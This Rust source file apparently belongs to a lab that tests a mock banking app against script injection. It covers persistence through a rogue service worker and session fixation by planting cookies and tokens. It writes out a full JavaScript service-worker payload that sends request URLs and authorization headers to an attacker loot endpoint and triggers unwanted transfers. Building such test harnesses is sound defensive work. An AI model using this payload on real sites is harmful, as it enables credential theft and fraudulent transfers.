//! A5 and A6: what a script leaves behind in the browser.

use std::time::Duration;

use anyhow::Result;
use cloakroom_lab_report::{Actor, Verdict};
use cloakroom_lab_victims::{Deed, What};
use serde_json::{Value, json};

use super::login::{Carried, log_in_elsewhere};
use super::payload::{deliver_and_collect, script};
use crate::person::{READY, tries};
use crate::scene::{Outcome, Scene};

/// Whether what was loaded is the application, once that can be told.
pub(super) const STARTED_OR_NOT: &str = "(window.bank && (await window.bank.ready, 'started')) || (document.readyState === 'complete' \
                              && !(document.querySelector('script[src$=\"/app.js\"]') \
                              && (await fetch('/app.js').then((answer) => answer.ok, () => false))) && 'not')";

/// An application takes no longer than this to start, or does not.
const STARTS_WITHIN: Duration = Duration::from_secs(10);

/// A5: a script registers a service worker from something that the application serves as a script; then it is gone, and the
/// victim comes back.
pub(super) async fn service_worker(scene: &mut Scene<'_>) -> Result<Outcome> {
    let loot = Value::String(scene.loot());
    let worker = format!(
        "const L={loot};self.addEventListener('install',()=>skipWaiting());self.addEventListener('activate',e=>e.waitUntil(clients.claim()));\
         self.addEventListener('fetch',e=>{{if(e.request.url.startsWith(L))return;\
         fetch(L,{{method:'POST',mode:'no-cors',body:'worker:'+e.request.url+' '+(e.request.headers.get('authorization')||'')}});\
         if(e.request.mode==='navigate')fetch('/api/transfer',{{method:'POST',headers:{{'content-type':'application/json','x-csrf':'1'}},body:JSON.stringify({{to:'worker',amount:13}})}}).then(r=>fetch(L,{{method:'POST',mode:'no-cors',body:'worker-acted:'+r.status}}),r=>fetch(L,{{method:'POST',mode:'no-cors',body:'worker-acted:'+r}}));}});"
    );
    let main = format!(
        "for (const at of ['/echo.js?cb=' + encodeURIComponent({worker} + '//'), '/api/echo.js?cb=' + encodeURIComponent({worker} + '//')]) {{\n\
         await attempt('registered', async () => {{ const there = await navigator.serviceWorker.register(at); \
         await within(new Promise((yes) => {{ const look = () => there.active ? yes() : setTimeout(look, 20); look(); }}), 1200); return at.slice(0, 20); }}); }}",
        worker = Value::String(worker.clone())
    );
    let payload = script(scene, &[], &main);
    let pieces = deliver_and_collect(scene, payload).await?;
    if !pieces.iter().any(|piece| piece.starts_with("registered:")) {
        let why = pieces.iter().find(|piece| piece.starts_with("note:registered")).cloned().unwrap_or_default();
        return Ok((Verdict::Safe, format!("no service worker could be registered ({})", crate::world::cut(&why))));
    }
    scene.step(Actor::Attacker, "has a service worker registered", "");
    let home = scene.app("/");
    let later = scene.context.page().await?;
    scene.page.goto("about:blank").await?;
    later.goto(&home).await?;
    // An application whose own worker was replaced may wait for it for ever.
    let starts = later.wait_for_within(READY, STARTS_WITHIN).await.is_ok();
    let outcome = if starts { "" } else { "it does not start any more" };
    scene.step(Actor::Victim, "closes the page, and opens the application in a new tab", outcome);
    if starts && !scene.victim.sees_own_profile(&later).await? {
        scene.victim.log_in(&later).await?;
        tries(&later, "profile", &[]).await?;
        later.reload().await?;
        scene.step(Actor::Victim, "logs in again", "");
    }
    let there = scene.world.evil.wait_loot("worker-acted:").await;
    let acted = scene.deeds().iter().any(|deed| matches!(&deed.what, What::Transferred { to, .. } if to == "worker"));
    Ok(match (acted, there) {
        (true, _) => {
            (Verdict::Ride, "the service worker sent 13 to itself in a tab that no script was injected into".to_owned())
        }
        (false, _) if !starts => (
            Verdict::Deny,
            "the service worker took the place of the application's own, which no longer starts".to_owned(),
        ),
        (false, Ok(_)) => (
            Verdict::Part,
            "the service worker sees every request of later tabs, but its own requests are not let in".to_owned(),
        ),
        (false, Err(error)) => {
            (Verdict::Part, format!("a service worker was registered; what it does was not seen: {error}"))
        }
    })
}

/// A6: a script overwrites or evicts the credential, so that the victim goes on as somebody else.
pub(super) async fn overwrites(scene: &mut Scene<'_>) -> Result<Outcome> {
    let carried = log_in_elsewhere(scene, &scene.thief.clone()).await?;
    let Carried { cookies, tokens } = &carried;
    if cookies.is_empty() && tokens.is_empty() {
        return Ok((Verdict::Na, "a log-in from another machine gives nothing that could be planted".to_owned()));
    }
    scene.step(Actor::Attacker, "logs in as himself on his own machine", "");
    // First as simply as can be, then in every odd spelling: what is odd may also spoil what is simple.
    let mut worst = (Verdict::Safe, String::new());
    for odd in [false, true] {
        let main = format!("await plant({}, {}, {odd});", json!(cookies), json!(tokens));
        let payload = script(scene, &[include_str!("../../payloads/plant.js")], &main);
        deliver_and_collect(scene, payload).await?;
        let outcome = comes_back(scene).await?;
        if outcome.0 >= worst.0 {
            worst = outcome;
        }
        if worst.0 == Verdict::Fixate {
            break;
        }
        if worst.0 != Verdict::Safe && !odd {
            scene.begin_again().await?;
        }
    }
    Ok(worst)
}

/// The victim loads the application again and sends money; whose account it leaves decides. A profile would not do: a
/// browser may show it from its cache.
pub(super) async fn comes_back(scene: &mut Scene<'_>) -> Result<Outcome> {
    let home = scene.app("/");
    scene.page.goto(&home).await?;
    // An application that shows another page to what it was sent is one that its user cannot use.
    if scene.page.wait_for(STARTED_OR_NOT).await? != "started" {
        let shown = scene.page.text("body").await.unwrap_or_default();
        scene.step(Actor::Victim, "loads the application again", crate::world::cut(&shown));
        return Ok((Verdict::Deny, "the application does not start any more".to_owned()));
    }
    if scene.forgets() {
        // A reload alone has logged this one out; whose account it is after a new log-in is what is asked.
        scene.victim.log_in(&scene.page).await?;
    }
    let at_once = whose(scene).await?;
    if at_once.0 != Verdict::Safe {
        return Ok(at_once);
    }
    // What was planted beside the refresh token shows when that is used.
    if tries(&scene.page, "refresh", &[]).await?.get("refused").is_some() {
        return Ok(at_once);
    }
    scene.step(Actor::Victim, "renews the session", "");
    whose(scene).await
}

/// The victim sends money; whose account it leaves decides.
async fn whose(scene: &mut Scene<'_>) -> Result<Outcome> {
    let word = format!("whose-{}", scene.world.wire.mark());
    let answer = tries(&scene.page, "transfer", &[json!(word), json!(1)]).await?;
    let from =
        |deeds: &[Deed]| deeds.iter().any(|deed| matches!(&deed.what, What::Transferred { to, .. } if *to == word));
    let (is_thiefs, is_own) = (from(&scene.deeds_of_thief()), from(&scene.deeds()));
    let outcome = match (is_thiefs, is_own) {
        (true, _) => "it leaves the attacker's account".to_owned(),
        (_, true) => "it leaves the victim's own account".to_owned(),
        _ => crate::world::cut(&answer.to_string()),
    };
    scene.step(Actor::Victim, "sends 1 to somebody in the application that was loaded again", outcome);
    Ok(judge_whose(is_thiefs, is_own))
}

fn judge_whose(is_thiefs: bool, is_own: bool) -> Outcome {
    match (is_thiefs, is_own) {
        (true, _) => (Verdict::Fixate, "the victim's browser acts in the attacker's account from then on".to_owned()),
        (false, true) => (Verdict::Safe, "the victim goes on as themselves".to_owned()),
        (false, false) => (Verdict::Deny, "the victim is logged out".to_owned()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whose_account_it_is_decides() {
        assert_eq!(judge_whose(true, false).0, Verdict::Fixate);
        assert_eq!(judge_whose(false, true).0, Verdict::Safe);
        assert_eq!(judge_whose(false, false).0, Verdict::Deny);
    }
}
